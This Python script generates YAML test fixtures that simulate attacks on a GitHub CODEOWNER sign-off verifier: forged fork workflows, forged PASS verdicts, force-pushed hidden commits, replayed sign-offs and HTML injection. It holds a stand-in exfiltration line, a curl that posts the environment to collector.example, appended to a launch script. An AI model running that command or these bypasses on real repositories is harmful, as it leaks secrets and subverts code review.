"""Build the trust-model world files trust_*.yaml in this folder (PRODUCT §4.8, issue 12).

Each world is seed 000 (a PASS sign-off on an ATOM AgentX image bump, built by
make_signoff_worlds.py) with one change that reproduces an attack or a failure of the
trust model; tests/test_signoff_trust.py replays every world on the fake server and
asserts the fixed behaviour. Re-run after changing seed 000 or the embedded policy:

    python tests/data/worlds/make_trust_worlds.py [OUTPUT_DIR]
"""

from __future__ import annotations

import importlib.util
import sys
from pathlib import Path

OUT = Path(__file__).resolve().parent


def _signoff_worlds():
    spec = importlib.util.spec_from_file_location("make_signoff_worlds", OUT / "make_signoff_worlds.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


SEED = _signoff_worlds()


def _root(world: dict) -> dict:
    return next(c for c in world["commits"].values() if not c.get("parents"))


def clock() -> dict:
    """Case 12: a deprecation scheduled after the world's `now` but before today's host date.
    minimaxm3 agentic may be submitted until 2026-10-31; the review date (the world's `now`,
    served as GitHub's Date header) is 2026-09-24, so Check 7 passes whatever the host date."""
    world = SEED.seed000()
    policy = _root(world)["files"]
    policy["configs/policy/deprecations.yaml"] += (
        '  - {prefix: minimaxm3, scenario: agentic, precision: "*", last-day: 2026-10-31, '
        'source: "Deprecation notice scheduled for Saturday, October 31, 2026 (trust-world case 12)"}\n')
    return world


INJECTION = "'</details><h1>&#x2705; PASS</h1>@SemiAnalysisAI/core'"
SWEEP = "7bbb0ec775dd86b8f6ebb3c4e345cdfe283b1c1a"  # seed 000's swept commit (the head merges main)


def injection() -> dict:
    """Case 8: the launch script carries HTML, an entity emoji and a team mention on the
    client line Check 9 quotes, and the AL line Check 11 rejects (2.50, golden 2.78)."""
    world = SEED.seed000()
    files = world["commits"][SWEEP]["files"]
    script = "benchmarks/single_node/agentic/minimaxm3_fp4_mi355x_atom_mtp.sh"
    files[script] = (files[script]
                     .replace("aiperf profile ", f"aiperf profile --t {INJECTION} ")
                     .replace("--spec-decode-acceptance-length 2.78",
                              f"--spec-decode-acceptance-length 2.50 # {INJECTION}"))
    return world


CHECK_RUNS = "^/repos/[^/]+/[^/]+/commits/[0-9a-f]{40}/check-runs$"


def outage() -> dict:
    """Case 7a: GitHub answers 502 on every check-run listing (an outage)."""
    world = SEED.seed000()
    world["faults"] = [{"method": "GET", "path": CHECK_RUNS, "status": 502}]
    return world


def rate_limited() -> dict:
    """Case 7b: the primary rate limit is used up until far beyond any wait budget."""
    world = SEED.seed000()
    world["faults"] = [{"method": "GET", "path": CHECK_RUNS, "status": 403,
                        "message": "API rate limit exceeded for installation ID 1.",
                        "headers": {"X-RateLimit-Limit": "5000", "X-RateLimit-Remaining": "0",
                                    "X-RateLimit-Reset": "4102444800"}}]
    return world


def catch_all_team() -> dict:
    """Check 0 on a PR whose paths all fall under the catch-all: the catch-all line lists
    the core team and @SemiAnalysisAI/amd-owners, no line owns the AMD files, and the
    signer is a member of amd-owners, not listed by name anywhere."""
    world = SEED.seed000()
    _root(world)["files"]["CODEOWNERS"] = (
        "* @SemiAnalysisAI/core @SemiAnalysisAI/amd-owners\n"
        "configs/nvidia-master.yaml @ankur-singh @kedarpotdar-nv @SemiAnalysisAI/core\n")
    world["teams"]["SemiAnalysisAI/amd-owners"] = ["chunfangamd", "yhl-amd"]
    return world


def no_app() -> dict:
    """Case 11: the same team-owned world verified with the workflow's own token, which may
    not read the organisation's teams (403 "Resource not accessible by integration")."""
    world = catch_all_team()
    world["faults"] = [{"method": "GET", "path": "^/orgs/[^/]+/teams/", "status": 403,
                        "message": "Resource not accessible by integration"}]
    return world


NON_OWNER = "rocm-perf-dev"


def non_owner_overwrite() -> dict:
    """Case 4: after the CODEOWNER's sign-off (5003, 09:30) gave `success`, a write
    collaborator who is neither named in CODEOWNERS nor a member of a team it lists posts the
    same sign-off phrase (5004, 11:00) on the same head."""
    world = SEED.seed000()
    world["collaborators"][NON_OWNER] = {"permission": "write", "role_name": "write"}
    pull = world["pulls"][0]
    signoff = next(c for c in pull["comments"] if c["id"] == 5003)
    assert "@chunfangamd" in signoff["body"]
    pull["comments"].append({"id": 5004, "user": NON_OWNER, "author_association": "COLLABORATOR",
                             "body": signoff["body"].replace("@chunfangamd", f"@{NON_OWNER}"),
                             "created_at": "2026-09-24T11:00:00Z", "updated_at": "2026-09-24T11:00:00Z"})
    return world


READ_MEMBER = "viewer"


def reuse_read_member() -> dict:
    """Case 9: seed 000's `/reuse-sweep-run 35873197630` (5002) posted instead by a MEMBER of
    the organisation whose access to the repository is read-only: `author_association` says
    MEMBER, the collaborator permission says read."""
    world = SEED.seed000()
    world["collaborators"][READ_MEMBER] = {"permission": "read", "role_name": "read"}
    command = next(c for c in world["pulls"][0]["comments"] if c["id"] == 5002)
    assert command["body"].strip().startswith("/reuse-sweep-run")
    command.update(user=READ_MEMBER, author_association="MEMBER")
    return world


PRIVATE_MEMBER = "quietmaint"


def reuse_private_member() -> dict:
    """Case 9b: seed 000's `/reuse-sweep-run 35873197630` (5002) posted instead by a maintainer
    whose organisation membership is private: GitHub says `author_association: CONTRIBUTOR`, the
    collaborator permission says write (role maintain)."""
    world = SEED.seed000()
    world["collaborators"][PRIVATE_MEMBER] = {"permission": "write", "role_name": "maintain"}
    command = next(c for c in world["pulls"][0]["comments"] if c["id"] == 5002)
    assert command["body"].strip().startswith("/reuse-sweep-run")
    command.update(user=PRIVATE_MEMBER, author_association="CONTRIBUTOR")
    return world


SIDE = "a1de0b5a1de0b5a1de0b5a1de0b5a1de0b5a1de0"


def side_branch() -> dict:
    """Case 3: the author opens a second PR with the same head into a branch `release`
    whose CODEOWNERS is `* @yhl-amd`, and signs it off himself."""
    world = SEED.seed000()
    main_sha = world["branches"]["main"]
    world["commits"][SIDE] = {"parents": [main_sha], "files_from": main_sha,
                              "message": "release branch: own CODEOWNERS",
                              "files": {"CODEOWNERS": "* @yhl-amd\n"}}
    world["branches"]["release"] = SIDE
    pull = world["pulls"][0]
    signoff = next(c for c in pull["comments"] if c["id"] == 5003)
    body = signoff["body"].replace("chunfangamd", "yhl-amd")
    world["pulls"].append({
        **{k: v for k, v in pull.items() if k not in ("comments", "reviews", "review_comments")},
        "number": 3413, "title": pull["title"] + " (release)",
        "base": {"ref": "release", "sha": SIDE},
        "comments": [{"id": 5103, "user": "yhl-amd", "author_association": "COLLABORATOR",
                      "body": body, "created_at": "2026-09-24T10:00:00Z",
                      "updated_at": "2026-09-24T10:00:00Z"}],
        "reviews": [], "review_comments": []})
    return world


SCRATCH = "5c7a7c05c7a7c05c7a7c05c7a7c05c7a7c05c7a7"
SCRATCH_SWEEP = """name: Run Sweep
on: pull_request
permissions: {}
jobs: {}
"""


def _scratch_branch(world: dict) -> None:
    """A branch `scratch` the author pushed: main with run-sweep.yml's jobs replaced. A
    `pull_request` run of a PR into it runs the merge of the head with it, so its sweep file."""
    main_sha = world["branches"]["main"]
    world["commits"][SCRATCH] = {"parents": [main_sha], "files_from": main_sha,
                                 "message": "scratch", "files": {".github/workflows/run-sweep.yml": SCRATCH_SWEEP}}
    world["branches"]["scratch"] = SCRATCH


def side_base_run() -> dict:
    """The head branch of PR #3412 is also the head of PR #3415 into `scratch` (opened at 12:30,
    closed at 14:00 on the day of the sweep): run 35873197630 (13:00), whose commit has our
    sweep files, is that PR's and ran scratch's run-sweep.yml."""
    world = SEED.seed000()
    _scratch_branch(world)
    pull = world["pulls"][0]
    world["pulls"].append({
        **{k: v for k, v in pull.items() if k not in ("comments", "reviews", "review_comments")},
        "number": 3415, "state": "closed", "base": {"ref": "scratch", "sha": SCRATCH},
        "created_at": "2026-09-23T12:30:00Z", "closed_at": "2026-09-23T14:00:00Z",
        "comments": [], "reviews": [], "review_comments": []})
    return world


def retargeted_run() -> dict:
    """PR #3412 is retargeted to `scratch` (12:30), its sweep runs (13:00), and it is
    retargeted back to main (14:00): the run ran scratch's run-sweep.yml."""
    world = SEED.seed000()
    _scratch_branch(world)
    pull = world["pulls"][0]
    pull["timeline"] = [*({"event": "committed", "sha": sha} for sha in pull["commits"]),
                        {"event": "base_ref_changed", "created_at": "2026-09-23T12:30:00Z",
                         "actor": pull["user"]},
                        {"event": "base_ref_changed", "created_at": "2026-09-23T14:00:00Z",
                         "actor": pull["user"]}]
    return world


def changelog_tbd() -> dict:
    """Case 6: the PR's new changelog entry says `pr-link: TBD` (seed 000's real gap: the
    merge tooling and `infx changelog validate` reject it, the verdict used to pass it)."""
    world = SEED.seed000()
    files = world["commits"][SWEEP]["files"]
    placeholder = "pr-link: https://github.com/SemiAnalysisAI/InferenceX/pull/XXX"
    assert files["perf-changelog.yaml"].count(placeholder) == 1
    files["perf-changelog.yaml"] = files["perf-changelog.yaml"].replace(placeholder, "pr-link: TBD")
    return world


HEAD = "296a93ad6c8fa017e83fb5f404f09f2efc16e1c4"  # seed 000's head (a merge of main into the sweep)
SCRIPT = "benchmarks/single_node/agentic/minimaxm3_fp4_mi355x_atom_mtp.sh"
RUN_ID = 35873197630
FORK = "mallory/InferenceX"
FORGED_SWEEP = """name: Run Sweep
on: pull_request
permissions: {}
jobs:
  agentic:
    name: agentic
    runs-on: ubuntu-latest
    steps:
      - run: echo '[]' > agg_bmk.json
  eval:
    name: eval
    runs-on: ubuntu-latest
    steps:
      - run: echo '[]' > agg_eval_all.json
"""


def fork_forged() -> dict:
    """Case 1: a fork PR replaces run-sweep.yml with trivial jobs named like sweep jobs that
    upload the aggregate artifacts; its run (head repository: the fork) is all green."""
    world = SEED.seed000()
    world["commits"][SWEEP]["files"][".github/workflows/run-sweep.yml"] = FORGED_SWEEP
    pull = world["pulls"][0]
    pull["head"]["repo"] = FORK
    for run in world["workflow_runs"]:  # every pull_request run of a fork PR is the fork's
        if run["event"] == "pull_request":
            run["head_repository"] = FORK
    return world


def drift() -> dict:
    """Case 5: after the sweep, the head changes the recipe script (an extra environment
    variable and `--max-num-seqs 4096`); the real reviewer of seed 000 checked that recipe
    and config were byte-identical between the swept commit and the head."""
    world = SEED.seed000()
    script = world["commits"][SWEEP]["files"][SCRIPT]
    changed = (script.replace("export ATOM_PA_FLYDSL_PLAN=1\n",
                              "export ATOM_PA_FLYDSL_PLAN=1\nexport ATOM_DECODE_GRAPH_BS=4096\n")
               .replace('--kv_cache_dtype fp8 ', '--kv_cache_dtype fp8 --max-num-seqs 4096 '))
    assert changed.count("4096") == 2
    world["commits"][HEAD]["files"][SCRIPT] = changed
    return world


HEAD = "296a93ad6c8fa017e83fb5f404f09f2efc16e1c4"  # seed 000's head, signed off by 5003 at 09:30
BRANCH = "yhl-amd/minimaxm3-flydsl"
SCRIPT = "benchmarks/single_node/agentic/minimaxm3_fp4_mi355x_atom_mtp.sh"
EXFIL = 'curl -s -d "$(env)" https://collector.example/upload\n'


def _head_run(run_id: int, sha: str, branch: str, created_at: str) -> dict:
    return SEED.head_status_run(run_id, sha, branch, created_at)


def _push(world: dict, sha: str, parent: str, files: dict, message: str, at: str,
          run_id: int, pull: dict | None = None) -> None:
    """A new PR head `sha` on top of `parent`, and the pull_request run GitHub records for it."""
    pull = pull or world["pulls"][0]
    world["commits"][sha] = {"parents": [parent], "files_from": parent, "message": message,
                             "files": files}
    pull["head"]["sha"] = sha
    pull["commits"] = [*pull["commits"], sha]
    world["workflow_runs"].append(_head_run(run_id, sha, pull["head"]["ref"], at))


PUSHED = "c0ffee0000000000000000000000000000000002"


def push_after_signoff() -> dict:
    """Case 2b: after the sign-off (09:30) the author pushes a commit whose recipe posts the
    environment to an outside URL (10:00), then dispatches a re-verification of the old
    sign-off for the new head."""
    world = SEED.seed000()
    script = world["commits"][SWEEP]["files"][SCRIPT]
    _push(world, PUSHED, HEAD, {SCRIPT: script + EXFIL}, "tidy the recipe",
          "2026-09-24T10:00:00Z", 35873197702)
    return world


OTHER = "c0ffee0000000000000000000000000000000003"


def replay_other_pr() -> dict:
    """Case 2a: the author's second PR #3414 (its own branch and head, no sign-off) gets a
    dispatch naming the CODEOWNER's sign-off 5003, which is on PR #3412."""
    world = SEED.seed000()
    pull = world["pulls"][0]
    main = world["branches"]["main"]
    script = world["commits"][SWEEP]["files"][SCRIPT]
    world["commits"][OTHER] = {"parents": [main], "files_from": main, "message": "recipe tweak",
                               "files": {SCRIPT: script + EXFIL}}
    world["pulls"].append({
        **{k: v for k, v in pull.items() if k not in ("comments", "reviews", "review_comments")},
        "number": 3414, "title": "perf(amd): MiniMax-M3 recipe tweak",
        "head": {"ref": "yhl-amd/recipe-tweak", "sha": OTHER, "repo": world["repo"]},
        "commits": [OTHER], "comments": [], "reviews": [], "review_comments": []})
    world["workflow_runs"].append(_head_run(35873197703, OTHER, "yhl-amd/recipe-tweak",
                                            "2026-09-24T10:00:00Z"))
    return world


MAIN2 = "c0ffee0000000000000000000000000000000004"
MERGED = "c0ffee0000000000000000000000000000000005"


def merge_after_signoff() -> dict:
    """Case 2c: after the sign-off, main moves on (README) and the author merges it (10:00);
    the PR's own changes are the signed ones, so the new head inherits the sign-off."""
    world = SEED.seed000()
    main = world["branches"]["main"]
    readme = world["commits"][_root_sha(world)]["files"]["README.md"] + "\nSee docs/.\n"
    world["commits"][MAIN2] = {"parents": [main], "files_from": main, "message": "README",
                               "files": {"README.md": readme}}
    world["branches"]["main"] = MAIN2
    pull = world["pulls"][0]
    pull["base"]["sha"] = MAIN2
    _push(world, MERGED, HEAD, {"README.md": readme}, "Merge branch 'main'",
          "2026-09-24T10:00:00Z", 35873197704)
    world["commits"][MERGED]["parents"] = [HEAD, MAIN2]
    return world


# a file with two blocks of the same lines, each setting X=1
NOTES = "docs/notes.md"
_BLOCK = "a\nb\nc\nX={}\nd\ne\nf\n"
NOTES_BASE = "# one\n" + _BLOCK.format(1) + "# two\n" + _BLOCK.format(1)
NOTES_FIRST = "# one\n" + _BLOCK.format(2) + "# two\n" + _BLOCK.format(1)  # the signed change
MOVED = "c0ffee0000000000000000000000000000000010"
MAIN_NOTES = "c0ffee0000000000000000000000000000000011"
MERGED4 = "c0ffee0000000000000000000000000000000012"


def _notes_signed() -> dict:
    """Seed 000 with NOTES on main, and the signed head (09:30) setting X=2 in its first block."""
    world = SEED.seed000()
    world["commits"][_root_sha(world)]["files"][NOTES] = NOTES_BASE
    world["commits"][HEAD]["files"][NOTES] = NOTES_FIRST
    return world


def moved_change_after_signoff() -> dict:
    """Case 2d: after the sign-off the author moves the change to the second block (10:00):
    the PR's diff has the same text (hunk and context lines) at other lines of the file, and
    main did not change the file; the sign-off was for the first block."""
    world = _notes_signed()
    _push(world, MOVED, HEAD, {NOTES: "# one\n" + _BLOCK.format(1) + "# two\n" + _BLOCK.format(2)},
          "set X in the second block", "2026-09-24T10:00:00Z", 35873197711)
    return world


def shifting_merge_after_signoff() -> dict:
    """Case 2e: after the sign-off main adds lines at the top of NOTES, and the author merges
    main (10:00): the PR's change is the same text at later lines, moved by main's change."""
    world = _notes_signed()
    main = world["branches"]["main"]
    world["commits"][MAIN_NOTES] = {"parents": [main], "files_from": main, "message": "notes: a title",
                               "files": {NOTES: "# Notes\n\n" + NOTES_BASE}}
    world["branches"]["main"] = MAIN_NOTES
    world["pulls"][0]["base"]["sha"] = MAIN_NOTES
    _push(world, MERGED4, HEAD, {NOTES: "# Notes\n\n" + NOTES_FIRST}, "Merge branch 'main'",
          "2026-09-24T10:00:00Z", 35873197712)
    world["commits"][MERGED4]["parents"] = [HEAD, MAIN_NOTES]
    return world


AFTER_MERGE = "c0ffee0000000000000000000000000000000006"
DOCS_PR = "c0ffee0000000000000000000000000000000007"


def head_moves() -> dict:
    """Case 10: seed 000 (head 296a93, signed off) plus the heads it moves to later: the
    plain merge of main (MERGED), then an own change on top of it (AFTER_MERGE); and PR #3415
    touching only README.md (core-owned: no sign-off needed). The tests move the PR head
    through them and run the head-status job each time."""
    world = merge_after_signoff()
    pull = world["pulls"][0]
    pull["head"]["sha"], pull["commits"] = HEAD, pull["commits"][:-1]
    pull["base"]["sha"] = world["commits"][MAIN2]["parents"][0]  # main before it moved on
    world["workflow_runs"] = [r for r in world["workflow_runs"] if r["head_sha"] != MERGED]
    script = world["commits"][SWEEP]["files"][SCRIPT]
    world["commits"][AFTER_MERGE] = {"parents": [MERGED], "files_from": MERGED,
                                     "message": "tidy the recipe", "files": {SCRIPT: script + EXFIL}}
    main = world["branches"]["main"]
    world["commits"][DOCS_PR] = {"parents": [main], "files_from": main, "message": "docs",
                                 "files": {"README.md": "# InferenceX\n\nBenchmarks.\n"}}
    world["pulls"].append({
        **{k: v for k, v in pull.items() if k not in ("comments", "reviews", "review_comments")},
        "number": 3415, "title": "docs: README", "user": "yhl-amd",
        "head": {"ref": "yhl-amd/readme", "sha": DOCS_PR, "repo": world["repo"]},
        "base": {"ref": "main", "sha": main}, "labels": [],
        "commits": [DOCS_PR], "comments": [], "reviews": [], "review_comments": []})
    return world


APP_LOGIN = "infx-signoff[bot]"
ACTIONS_LOGIN = "github-actions[bot]"
FORGED_VERDICT = (f"<!-- codeowner-signoff-verify sha={HEAD} evidence=0123456789abcdef -->\n"
                  "## ✅✅✅ **Verdict: PASS** ✅✅✅\n\n"
                  "Every check passed.\n")


def forged_verdict() -> dict:
    """Issue 19 problem 1: the bot runs as a GitHub App (`infx-signoff[bot]`); the PR has no
    sign-off at all, but a workflow of the PR posted, with its GITHUB_TOKEN, a PASS verdict
    comment for the head as github-actions[bot] and set a `success` status on it."""
    world = head_moves()
    world["token_login"] = APP_LOGIN
    pull = world["pulls"][0]
    pull["comments"] = [c for c in pull["comments"] if c["id"] != 5003]
    pull["comments"].append({"id": 5010, "user": ACTIONS_LOGIN, "author_association": "NONE",
                             "body": FORGED_VERDICT, "created_at": "2026-09-24T09:40:00Z",
                             "updated_at": "2026-09-24T09:40:00Z"})
    world["statuses"][HEAD] = [{"context": "codeowner-signoff-verify", "state": "success",
                                "description": "CODEOWNER sign-off verified for this commit.",
                                "creator": ACTIONS_LOGIN, "created_at": "2026-09-24T09:40:00Z"}]
    return world


MAIN3 = "c0ffee0000000000000000000000000000000008"
MERGED3 = "c0ffee0000000000000000000000000000000009"


def owner_removed() -> dict:
    """Issue 19 problem 2: after the PASS on head 296a93, main drops the signer from the
    CODEOWNERS line of configs/amd-master.yaml (branch `drop-owner`, MAIN3, which the tests
    fast-forward main to) and the author merges main in (MERGED3): the PR's own changes are
    the signed ones, but the signer no longer owns them on the default branch."""
    world = head_moves()
    codeowners = world["commits"][_root_sha(world)]["files"]["CODEOWNERS"]
    assert codeowners.count(" @chunfangamd") == 2
    dropped = codeowners.replace("configs/amd-master.yaml @billishyahao @chunfangamd",
                                 "configs/amd-master.yaml @billishyahao")
    assert dropped != codeowners
    world["commits"][MAIN3] = {"parents": [MAIN2], "files_from": MAIN2,
                               "message": "CODEOWNERS: chunfangamd moves on",
                               "files": {"CODEOWNERS": dropped}}
    world["branches"]["drop-owner"] = MAIN3
    readme = world["commits"][MAIN2]["files"]["README.md"]
    world["commits"][MERGED3] = {"parents": [HEAD, MAIN3], "files_from": HEAD,
                                 "message": "Merge branch 'main'",
                                 "files": {"README.md": readme, "CODEOWNERS": dropped}}
    return world


HIDDEN = "c0ffee0000000000000000000000000000000020"


def hidden_head() -> dict:
    """Issue 20: seed 000's head 296a93 (its run at 09:00) is force-pushed to HIDDEN, whose
    message says [skip ci] (GitHub records no run) at 09:10; the CODEOWNER signs what the PR
    shows (5003, 09:30) and a maintainer posts the reuse command (5002, 09:35); at 09:50 the
    author force-pushes 296a93 back (a run records it then). The runs alone say both were
    posted on 296a93; the timeline shows the force-pushes."""
    world = SEED.seed000()
    pull = world["pulls"][0]
    world["commits"][HIDDEN] = {"parents": [HEAD], "files_from": HEAD, "message": "tidy [skip ci]",
                                "files": {"README.md": "# InferenceX\n\nNothing to see.\n"}}
    command = next(c for c in pull["comments"] if c["id"] == 5002)
    command.update(created_at="2026-09-24T09:35:00Z", updated_at="2026-09-24T09:35:00Z")
    pull["timeline"] = [*({"event": "committed", "sha": sha} for sha in pull["commits"]),
                        {"event": "head_ref_force_pushed", "created_at": "2026-09-24T09:10:00Z",
                         "actor": pull["user"]},
                        {"event": "head_ref_force_pushed", "created_at": "2026-09-24T09:50:00Z",
                         "actor": pull["user"]}]
    world["workflow_runs"].append(_head_run(35873197708, HEAD, BRANCH, "2026-09-24T09:50:00Z"))
    return world


def timeline_unreadable() -> dict:
    """Issue 20: seed 000 with GitHub answering 502 on the PR's timeline."""
    world = SEED.seed000()
    world["faults"] = [{"method": "GET", "path": "^/repos/[^/]+/[^/]+/issues/\\d+/timeline$", "status": 502}]
    return world


SCENARIO6 = OUT / "policy_scenario6.yaml"
RECIPE_PR = "https://github.com/sgl-project/sglang/pull/21001"
COOKBOOK_PAGE = "https://docs.sglang.io/cookbook/autoregressive/Qwen/Qwen3.5"
COOKBOOK_SOURCE = "docs/cookbook/autoregressive/Qwen/Qwen3.5.mdx"
COOKBOOK_TEXT = """---
title: Qwen3.5
description: Deploy Qwen3.5 with SGLang
---

## AMD MI355X

Qwen3.5-397B-A17B-FP8 with the embedded MTP head on 4 GPUs:

```bash
python -m sglang.launch_server \\
  --model Qwen/Qwen3.5-397B-A17B-FP8 \\
  --tp 4 \\
  --speculative-algorithm EAGLE \\
  --speculative-num-steps 3
```
"""


def recipe_page() -> dict:
    """Case 14: signoff.md §6 scenario 6 (SGLang qwen3.5 fp8 MTP on MI355X) where the sign-off
    links the published SGLang cookbook page instead of the merged cookbook PR. The cookbook
    repository serves the page's source file (configs/policy/recipe-pages.yaml maps
    docs.sglang.io/cookbook/<category>/<Org>/<Model> to sgl-project/sglang
    docs/cookbook/<category>/<Org>/<Model>.mdx at main). Made verifiable on the live path:
    the signer is a write collaborator and the catch-all owner, the policy files are on the
    default branch, and a pull_request run records the head before the sign-off."""
    import yaml

    world = yaml.safe_load(SCENARIO6.read_text(encoding="utf-8"))
    world["collaborators"] = {"owner3": {"permission": "write", "role_name": "write"}}
    root = world["commits"][world["branches"]["main"]]
    root["files"] = {**SEED.POLICY, **root["files"], "CODEOWNERS": "* @owner3\n"}
    world["external"] = {"sgl-project/sglang": {"files": {"main": {COOKBOOK_SOURCE: COOKBOOK_TEXT}}}}
    pull = world["pulls"][0]
    signoff = pull["comments"][0]
    assert signoff["body"].count(RECIPE_PR) == 1
    signoff["body"] = signoff["body"].replace(
        f"Upstream recipe (merged): {RECIPE_PR}", f"Upstream recipe (published): {COOKBOOK_PAGE}")
    signoff["created_at"] = signoff["updated_at"] = "2026-09-30T10:00:00Z"
    world["workflow_runs"] = [_head_run(36010000001, pull["head"]["sha"], pull["head"]["ref"],
                                        "2026-09-30T09:00:00Z")]
    return world


def _root_sha(world: dict) -> str:
    return next(sha for sha, c in world["commits"].items() if not c.get("parents"))


WORLDS = (
    ("trust_clock.yaml", clock,
     "Case 12: a deprecation after the world's `now` (2026-09-24) and before the host's date"),
    ("trust_injection.yaml", injection,
     "Case 8: a launch-script line with HTML, an entity emoji and a team mention"),
    ("trust_outage.yaml", outage, "Case 7: a 502 outage on the check-run listings"),
    ("trust_rate_limit.yaml", rate_limited,
     "Case 7: the primary rate limit is exhausted (X-RateLimit-Remaining: 0, reset in 2100)"),
    ("trust_catch_all_team.yaml", catch_all_team,
     "Check 0: catch-all-only paths, the signer an active member of a team CODEOWNERS lists"),
    ("trust_no_app.yaml", no_app,
     "Case 11: team membership unreadable with the workflow token (no GitHub App)"),
    ("trust_non_owner_overwrite.yaml", non_owner_overwrite,
     "Case 4: a write user who is not a CODEOWNER posts the sign-off after the owner's `success`"),
    ("trust_reuse_read_member.yaml", reuse_read_member,
     "Case 9: the reuse command posted by a read-only organisation MEMBER"),
    ("trust_reuse_private_member.yaml", reuse_private_member,
     "Case 9b: the reuse command posted by a maintainer whose organisation membership is private"),
    ("trust_side_branch.yaml", side_branch,
     "Case 3: a self-signed PR into a side branch whose CODEOWNERS is `* @author`"),
    ("trust_fork_forged.yaml", fork_forged,
     "Case 1: a fork PR's forged run-sweep.yml ran green jobs named like sweep jobs"),
    ("trust_side_base_run.yaml", side_base_run,
     "Case 1c: the only sweep run is a PR's from the same branch into a branch with its own run-sweep.yml"),
    ("trust_retargeted_run.yaml", retargeted_run,
     "Case 1d: the PR's sweep ran while it was retargeted to a branch with its own run-sweep.yml"),
    ("trust_drift.yaml", drift,
     "Case 5: the recipe script changed after the swept commit (env var, --max-num-seqs 4096)"),
    ("trust_changelog_tbd.yaml", changelog_tbd,
     "Case 6: the PR's new changelog entry has `pr-link: TBD`"),
    ("trust_push_after_signoff.yaml", push_after_signoff,
     "Case 2: the author pushes after the sign-off (the recipe posts the environment out)"),
    ("trust_replay_other_pr.yaml", replay_other_pr,
     "Case 2: a dispatch for PR #3414 naming the sign-off of PR #3412"),
    ("trust_merge_after_signoff.yaml", merge_after_signoff,
     "Case 2: a plain merge of main after the sign-off (the head inherits it)"),
    ("trust_moved_change_after_signoff.yaml", moved_change_after_signoff,
     "Case 2: after the sign-off the same change is moved to a repeated block of its file"),
    ("trust_shifting_merge_after_signoff.yaml", shifting_merge_after_signoff,
     "Case 2: a merge of main that adds lines above the PR's change after the sign-off (inherited)"),
    ("trust_head_moves.yaml", head_moves,
     "Case 10: the heads a signed-off PR moves to, and a PR that needs no sign-off"),
    ("trust_forged_verdict.yaml", forged_verdict,
     "Issue 19: a github-actions[bot] PASS verdict and status, forged by a PR workflow, while the bot is an App"),
    ("trust_owner_removed.yaml", owner_removed,
     "Issue 19: the signer is dropped from the default branch's CODEOWNERS, then main is merged in"),
    ("trust_hidden_head.yaml", hidden_head,
     "Issue 20: the head is force-pushed to a [skip ci] commit, signed, and force-pushed back"),
    ("trust_timeline_unreadable.yaml", timeline_unreadable,
     "Issue 20: the PR's timeline cannot be read (502)"),
    ("trust_recipe_page.yaml", recipe_page,
     "Case 14: the sign-off links a published SGLang cookbook page, read from its source file"),
)
HEADER = ("# {what}\n# {base} with one change, for the trust-model tests (PRODUCT §4.8)\n"
          "# (generated by make_trust_worlds.py{source}).\n")


def render(builder, what: str) -> str:
    import yaml

    text = yaml.dump(SEED.deep_lit(builder()), Dumper=yaml.SafeDumper, sort_keys=False,
                     allow_unicode=True, width=1000)
    if builder is recipe_page:
        return HEADER.format(what=what, base="Policy scenario 6", source=" from policy_scenario6.yaml") + text
    return HEADER.format(what=what, base="Seed 000", source=" from make_signoff_worlds.py's seed 000") + text


def main(argv: list[str]) -> int:
    out = Path(argv[0]) if argv else OUT
    out.mkdir(parents=True, exist_ok=True)
    for name, builder, what in WORLDS:
        text = render(builder, what)
        (out / name).write_text(text, encoding="utf-8")
        print("wrote", out / name, len(text))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
